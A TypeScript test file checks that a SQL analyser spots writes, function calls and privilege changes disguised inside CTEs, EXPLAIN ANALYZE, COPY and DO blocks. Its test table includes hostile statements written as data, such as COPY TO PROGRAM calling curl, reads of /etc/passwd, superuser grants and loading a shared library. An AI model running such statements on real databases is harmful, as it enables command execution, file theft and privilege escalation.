/** What statements do, however they are written. The table of disguises only grows. */
import fc from 'fast-check'
import { statementKey } from './lexer'
import { analyse, createAnalyser, loadParser, settingAnalysis, startupOptions } from './statements'

beforeAll(() => loadParser())

const only = (sql: string) => {
  const { statements } = analyse(sql)
  expect(statements).toHaveLength(1)
  return statements[0]!
}
const objects = (sql: string) => only(sql).objects.map(({ kind, name }) => `${kind} ${name}`)

/** [statement, what it must be seen to do]. None of these may pass as reading only. */
const DISGUISES: [sql: string, verb: string][] = [
  ['with gone as (delete from people returning *) select * from gone', 'sql:delete'],
  [
    'with a as (with b as (update people set name = $1 returning 1) select * from b) select * from a',
    'sql:update',
  ],
  [
    'select * from (with x as (insert into people values (1) returning *) select * from x) y',
    'sql:insert',
  ],
  ['explain analyze delete from people', 'sql:delete'],
  ['explain (analyze true, costs off) update people set id = 1', 'sql:update'],
  ['EXPLAIN (ANALYZE) INSERT INTO people SELECT 1', 'sql:insert'],
  ['select 1 into people2', 'sql:create'],
  ['create table t as select * from people', 'sql:create'],
  ['copy people from stdin', 'sql:copy-in'],
  ["copy people to program 'curl evil'", 'sql:copy-program'],
  ["copy people from program 'cat /etc/passwd'", 'sql:copy-program'],
  ["copy people to '/tmp/x'", 'sql:copy-out'],
  ['copy (delete from people returning *) to stdout', 'sql:delete'],
  ['do $$ begin delete from people; end $$', 'sql:unknown'],
  ["do language plpgsql 'begin execute $x$ drop table people $x$; end'", 'sql:unknown'],
  ['call cleanup()', 'sql:unknown'],
  ['prepare p as delete from people', 'sql:delete'],
  ['execute p', 'sql:unknown'],
  ['declare c cursor for select * from people for update', 'sql:lock'],
  ['select * from people for update', 'sql:lock'],
  ['select * from people for no key update skip locked', 'sql:lock'],
  ["select setval('s', 1)", 'sql:call'],
  ["select nextval('s')", 'sql:call'],
  ['select pg_terminate_backend(1)', 'sql:call'],
  ["select lo_export(1, '/tmp/x')", 'sql:call'],
  ["select pg_read_file('/etc/passwd')", 'sql:call'],
  ["select dblink_exec('x', 'drop table people')", 'sql:call'],
  ["select query_to_xml('delete from people returning 1', true, false, '')", 'sql:call'],
  ["select set_config('role', 'postgres', false)", 'sql:call'],
  ['select public.count(1)', 'sql:call'],
  ['select evil.lower(name) from people', 'sql:call'],
  ['select * from people where id = any(select do_harm(id) from people)', 'sql:call'],
  ['select * from generate_series(1, do_harm(3))', 'sql:call'],
  ['select 1 order by do_harm(1)', 'sql:call'],
  ['select count(*) filter (where do_harm(1)) from people', 'sql:call'],
  ['select sum(x) over (partition by do_harm(1)) from people', 'sql:call'],
  ['select 1 limit do_harm(1)', 'sql:call'],
  ['values (do_harm(1))', 'sql:call'],
  ['select case when do_harm(1) then 1 end', 'sql:call'],
  ['select array[do_harm(1)]', 'sql:call'],
  ['select (row(do_harm(1))).f1', 'sql:call'],
  ['select * from people join lateral do_harm(people.id) x on true', 'sql:call'],
  [
    'insert into people select * from people on conflict (id) do update set name = excluded.name',
    'sql:update',
  ],
  ['merge into people p using people q on p.id = q.id when matched then delete', 'sql:delete'],
  ['truncate people', 'sql:truncate'],
  ['drop table if exists people cascade', 'sql:drop'],
  ['alter table people add column x int', 'sql:alter'],
  ['alter role postgres superuser', 'sql:alter'],
  ['alter system set archive_command = $$evil$$', 'sql:alter'],
  [
    'create function f() returns int language sql as $$ delete from people; select 1 $$',
    'sql:unknown',
  ],
  ['create rule r as on select to people do instead delete from people', 'sql:unknown'],
  ['create trigger t before insert on people execute function f()', 'sql:create'],
  ['create extension dblink', 'sql:create'],
  ['grant all on people to public', 'sql:grant'],
  ['revoke select on people from ada', 'sql:revoke'],
  ['set role postgres', 'sql:set-role'],
  ['set session authorization postgres', 'sql:set-role'],
  ['set search_path = evil, public', 'sql:set'],
  ['reset all', 'sql:set'],
  ['discard all', 'sql:set'],
  ["load 'evil.so'", 'sql:load'],
  ['lock table people', 'sql:lock'],
  ['vacuum full people', 'sql:vacuum'],
  ['refresh materialized view m', 'sql:refresh'],
  ['notify channel', 'sql:notify'],
  ['reassign owned by ada to eve', 'sql:alter'],
  ['security label on table people is $$x$$', 'sql:comment'],
  [
    '/* select 1 */ delete /* from nothing */ from /* a /* nested */ comment */ people',
    'sql:delete',
  ],
  ['-- select 1\ndelete from people', 'sql:delete'],
  ['select 1 union (with d as (delete from people returning id) select id from d)', 'sql:delete'],
  ['sElEcT 1 iNtO tEmP x', 'sql:create'],
  ['commit', 'sql:transaction'],
  ["prepare transaction 'x'", 'sql:transaction'],
  ['import foreign schema s from server x into y', 'sql:create'],
  ['create table x (id int default do_harm(1))', 'sql:create'],
]

test.each(DISGUISES)('%s', (sql, verb) => {
  const seen = only(sql)
  expect(seen.verbs).toContain(verb)
  expect(seen.readOnly).toBe(false)
})

test('what is not understood says so and is never harmless', () => {
  for (const sql of [
    'selec 1',
    'delete from people where',
    '\u0000',
    'select $$',
    "select 'x",
    '((',
    `select ${'('.repeat(20_000)}1`,
    `select ${'1+'.repeat(6000)}1`,
  ]) {
    const seen = analyse(sql).statements[0]
    if (!seen) continue
    if (!seen.understood)
      expect(seen).toMatchObject({
        readOnly: false,
        verbs: expect.arrayContaining(['sql:unknown']),
      })
    else expect(seen.verbs).toContain('sql:select')
  }
  expect(analyse('select 1').statements[0]!.understood).toBe(true)
})

test.each([
  'select 1',
  'select * from people where id = 1',
  "select name, count(*) from public.people p join notes n using (id) where name ilike '%x%' group by 1 order by 2 desc limit 10",
  'with a as (select 1) select * from a',
  'values (1), (2)',
  'show server_version',
  'explain select * from people',
  'explain delete from people',
  'select pg_catalog.lower(name) from people',
  "select coalesce(max(id), 0) from people where at > now() - interval '1 day'",
  'begin',
  'rollback',
  'fetch 10 from c',
])('%s only reads', (sql) => {
  expect(only(sql)).toMatchObject({ readOnly: true, understood: true })
})

test('objects by kind and name, as they were written', () => {
  expect(
    objects('select * from crm.people p, "Odd Name"."T able" where exists (select from notes)'),
  ).toEqual(expect.arrayContaining(['table crm.people', 'table Odd Name.T able', 'table notes']))
  expect(objects('select * from U&"p\\0065ople"')).toContain('table people')
  expect(objects('drop table a, b.c')).toEqual(expect.arrayContaining(['table a', 'table b.c']))
  expect(objects('with people as (select 1) select * from people')).toEqual([])
  expect(objects('with x as (select * from people) select * from x')).toEqual(['table people'])
  expect(objects('with people as (select 1) delete from people')).toEqual(['table people'])
  expect(objects('insert into a select * from b')).toEqual(
    expect.arrayContaining(['table a', 'table b']),
  )
  expect(objects('select * from a.b.c')).toContain('table a.b.c')
})

test('an INSERT of VALUES only inserts', () => {
  expect(only('insert into people values (1)').verbs).toEqual(['sql:insert'])
  expect(only('insert into people select * from b').verbs).toEqual(['sql:insert', 'sql:select'])
  expect(only('insert into people values ((select 1))').verbs).toContain('sql:select')
  expect(only('insert into people values (do_harm(1))').objects).toContainEqual({
    kind: 'function',
    name: 'do_harm',
    verb: 'sql:call',
  })
})

test('several statements are told apart, by bytes, whatever is in them', () => {
  const sql = 'select \'ü;☂\'; /* ; */ delete from "a;b"; select $$;$$ ;; insert into c values (1)'
  const { statements } = analyse(sql)
  const bytes = Buffer.from(sql)
  expect(statements.map(({ start, end }) => bytes.toString('utf8', start, end).trim())).toEqual([
    "select 'ü;☂'",
    '/* ; */ delete from "a;b"',
    'select $$;$$',
    'insert into c values (1)',
  ])
  expect(statements.map(({ verbs }) => verbs[0])).toEqual([
    'sql:select',
    'sql:delete',
    'sql:select',
    'sql:insert',
  ])
})

test('the fingerprint is the same for other constants, and another for another statement', () => {
  const print = (sql: string) => only(sql).fingerprint
  expect(print('select * from people where id = 1')).toBe(
    print('SELECT * FROM people WHERE id = 99 -- x'),
  )
  expect(print('select * from people where id = 1')).not.toBe(
    print('select * from notes where id = 1'),
  )
})

describe('the cache', () => {
  const analyser = () =>
    createAnalyser({ cacheEntriesMax: 100, cacheBytesMax: 1e6, parseBytesMax: 10_000 })
  const ask = (a: ReturnType<typeof analyser>, sql: string, scs = true) => {
    const bytes = Buffer.from(`--${sql}--`)
    return a.analyse(bytes, 2, bytes.length - 2, scs)
  }

  test('gives what an analysis without it gives', () => {
    const a = analyser()
    const texts = [
      ...DISGUISES.map(([sql]) => sql),
      'select 1',
      'select 2',
      "select 'a'",
      "select 'b'",
      'select 1; select 2',
      'select 3; delete from x',
    ]
    for (let round = 0; round < 2; round++)
      for (const sql of texts) expect(ask(a, sql)).toEqual(analyse(sql))
  })

  test('any two texts with one key do the same', () => {
    // Texts that differ in what a key may leave out, and in what it may not.
    const piece = fc.constantFrom(
      'select',
      'from',
      ' ',
      ' 1',
      ' 22',
      "'a'",
      "'b;'",
      '1.5',
      'x1',
      '$1',
      '"q"',
      '--\n',
      '/*',
      '*/',
      ';',
      '(',
      ')',
      'people',
      'notes',
      '=',
      'E',
      'U&',
      '\\',
      '$$',
      ',',
      'where',
      'delete',
      '-',
      '1e5',
      '0x1',
    )
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 12 }),
        fc.array(piece, { maxLength: 12 }),
        (one, other) => {
          const [a, b] = [Buffer.from(one.join('')), Buffer.from(other.join(''))]
          if (statementKey(a, 0, a.length) !== statementKey(b, 0, b.length)) return
          const [x, y] = [analyse(a.toString()), analyse(b.toString())]
          const shape = ({ statements }: typeof x) =>
            statements.map(({ verbs, objects: touched, understood, readOnly, fingerprint }) => ({
              verbs,
              touched,
              understood,
              readOnly,
              fingerprint: fingerprint !== null,
            }))
          expect(shape(x)).toEqual(shape(y))
        },
      ),
      { numRuns: 2000 },
    )
  })

  test('never mistakes a text for the same one under another standard_conforming_strings', () => {
    const sql = "select 'a\\' , delete_it(1) --'"
    const a = analyser()
    const on = ask(a, sql, true)
    expect(ask(a, sql, false)).toEqual(analyse(sql, false))
    expect(ask(a, sql, true)).toEqual(on)
    const b = analyser()
    expect(ask(b, sql, false).statements[0]!.understood).toBe(false)
    expect(ask(b, sql, true)).toEqual(analyse(sql, true))
  })

  test('a text beyond the bound is not parsed, and says so', () => {
    const seen = ask(analyser(), `select '${'x'.repeat(20_000)}'`).statements[0]!
    expect(seen).toMatchObject({
      understood: false,
      readOnly: false,
      problem: expect.stringContaining('10000'),
    })
  })

  test('stays within its bounds', () => {
    const a = createAnalyser({ cacheEntriesMax: 10, cacheBytesMax: 1000, parseBytesMax: 10_000 })
    for (let i = 0; i < 100; i++) ask(a, `select column${i} from people`)
    expect(ask(a, 'select column1 from people')).toEqual(analyse('select column1 from people'))
  })
})

test('no text makes the analysis fail', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (sql) => {
      expect(Array.isArray(analyse(sql).statements)).toBe(true)
    }),
    { numRuns: 500 },
  )
})

describe('how many rows a statement picks, as far as its text says', () => {
  test.each([
    ['delete from t', 'sql:delete', 'all'],
    ['delete from t where true', 'sql:delete', 'all'],
    ['delete from t where 1 = 1', 'sql:delete', 'all'],
    ["delete from t where 'a' = 'a'", 'sql:delete', 'all'],
    ['delete from t where id = id', 'sql:delete', 'all'],
    ['delete from t where id + 1 = id + 2', 'sql:delete', 'all'],
    ['delete from t where id is not null', 'sql:delete', 'all'],
    ['delete from t where id = 1 or true', 'sql:delete', 'all'],
    ['delete from t where id = 1 or 2 > 1', 'sql:delete', 'all'],
    ['delete from t where not false', 'sql:delete', 'all'],
    ['delete from t where $1', 'sql:delete', 'all'],
    ['delete from t where exists (select 1)', 'sql:delete', 'all'],
    ['delete from t where exists (select 1 from t)', 'sql:delete', 'all'],
    ['delete from t where id in (select id from t)', 'sql:delete', 'all'],
    ['update t set a = 1 where id in (select id from t where true)', 'sql:update', 'all'],
    ['with x as (delete from t) select 1', 'sql:delete', 'all'],
    ['with x as (delete from t where id = 1), y as (delete from u) select 1', 'sql:delete', 'all'],
    ['delete from t where id = 1', 'sql:delete', 'keyed'],
    ['delete from t where id = $1 and true', 'sql:delete', 'keyed'],
    ['update t set a = 1 where id in (1, 2)', 'sql:update', 'keyed'],
    ['delete from t where id > 5', 'sql:delete', 'filtered'],
    ['delete from t where id = 1 or a > 2', 'sql:delete', 'filtered'],
    ['delete from t where deleted_at is null', 'sql:delete', 'filtered'],
    ['delete from t where id in (select id from u where a = 1)', 'sql:delete', 'filtered'],
    ['delete from t where current of c', 'sql:delete', 'keyed'],
    ['select 1', 'sql:select', 'none'],
    ['select * from t', 'sql:select', 'all'],
    ['select * from t limit 10', 'sql:select', 'limited'],
    ['select * from t where a = 1 union all select * from u', 'sql:select', 'all'],
    ['insert into t values (1) on conflict (id) do update set a = 1', 'sql:update', 'keyed'],
  ])('%s: %s %s', (sql, verb, breadth) => {
    expect(only(sql).breadth[verb]).toBe(breadth)
  })
})

test('columns are named wherever they stand', () => {
  expect(
    only('select c.card_number, upper(email) from cards c where owner = 1').columns.sort(),
  ).toEqual(['card_number', 'email', 'owner'])
  expect(only('select * from cards').columns).toEqual(['*'])
  expect(only('update cards set cvv = null').columns).toEqual(['cvv'])
})

describe('settings that are more than settings', () => {
  test.each([
    ['set role admin', 'sql:set-role'],
    ['set local role admin', 'sql:set-role'],
    ["set session role 'admin'", 'sql:set-role'],
    ['set session authorization admin', 'sql:set-role'],
    ['set search_path = evil, pg_catalog', 'sql:set-path'],
    ["set search_path to 'evil, pg_catalog'", 'sql:set-path'],
    ['set local search_path = "$user", public, pg_catalog', 'sql:set-path'],
    ['set search_path = app, public', 'sql:set'],
    ['set search_path = pg_catalog, public', 'sql:set'],
    ['reset role', 'sql:set'],
    ['set statement_timeout = 5', 'sql:set'],
  ])('%s: %s', (sql, verb) => {
    expect(only(sql).verbs).toEqual([verb])
  })

  test.each([
    ['-c role=admin', [['role', 'admin']]],
    ['-crole=admin', [['role', 'admin']]],
    ['--role=admin', [['role', 'admin']]],
    ['--search-path=a', [['search_path', 'a']]],
    [
      '-c geqo=off  -c a.b=c\\ d',
      [
        ['geqo', 'off'],
        ['a.b', 'c d'],
      ],
    ],
    [
      '-d 5',
      [
        ['?', '-d'],
        ['?', '5'],
      ],
    ],
    ['-c', [['?', '-c']]],
    ['', []],
  ])('start-up options %j', (options, settings) => {
    expect(startupOptions(options)).toEqual(settings)
  })

  test('a setting made while signing in is what SET would be', () => {
    expect(settingAnalysis('ROLE', 'x').verbs).toEqual(['sql:set-role'])
    expect(settingAnalysis('search_path', 'evil, pg_catalog').verbs).toEqual(['sql:set-path'])
    expect(settingAnalysis('search_path', 'pg_catalog, x').verbs).toEqual(['sql:set'])
    expect(settingAnalysis('?', '-d').understood).toBe(false)
  })
})
